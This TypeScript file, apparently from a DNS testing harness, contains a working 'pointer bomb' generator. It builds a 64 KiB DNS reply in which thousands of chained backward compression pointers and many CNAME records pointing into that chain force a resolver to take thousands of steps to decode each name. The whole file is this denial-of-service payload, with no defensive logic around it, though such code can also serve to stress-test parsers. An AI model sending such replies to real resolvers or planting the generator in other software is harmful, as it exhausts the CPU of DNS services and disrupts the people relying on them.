// pointer-bomb — an answer of 64 KiB whose names are pointers to pointers: each lead backwards, as they must, and a name takes
// thousands of steps to read.

import { HEADER } from '../load/catalogue.ts';
import { writeUint16 } from '../load/wire.ts';

/** A pointer has 14 bits. */
const REACH = 0x4000;
const SIZE = 65_535;
const POINTER = 0xc000;
const TYPE_CNAME = 5;
const TYPE_NULL = 10;

/** @param end of the question of the query */
export function pointerBomb(query: Buffer, end: number): Buffer {
  const reply = Buffer.alloc(SIZE);
  reply.set(query.subarray(0, end));
  writeUint16(reply, 2, 0x8580);
  writeUint16(reply, 8, 0);
  writeUint16(reply, 10, 0);
  // The pointers are the data of the first record.
  const first = end + 12;
  const hops = Math.floor((REACH - first) / 2);
  reply.set(record(HEADER, TYPE_NULL, 2 * hops), end);
  for (let i = 0; i < hops; i++)
    writeUint16(reply, first + 2 * i, POINTER | (i === 0 ? HEADER : first + 2 * (i - 1)));
  const last = first + 2 * (hops - 1);
  let at = first + 2 * hops;
  let count = 1;
  for (; at + 14 <= SIZE; at += 14, count++) {
    reply.set(record(last, TYPE_CNAME, 2), at);
    writeUint16(reply, at + 12, POINTER | last);
  }
  writeUint16(reply, 6, count);
  return reply.subarray(0, at);
}

// ---------------------------------------------------------------------------------------------------------------------

/** All of it but its data. */
function record(owner: number, type: number, length: number): Buffer {
  const bytes = Buffer.alloc(12);
  writeUint16(bytes, 0, POINTER | owner);
  writeUint16(bytes, 2, type);
  writeUint16(bytes, 4, 1);
  writeUint16(bytes, 8, 60);
  writeUint16(bytes, 10, length);
  return bytes;
}
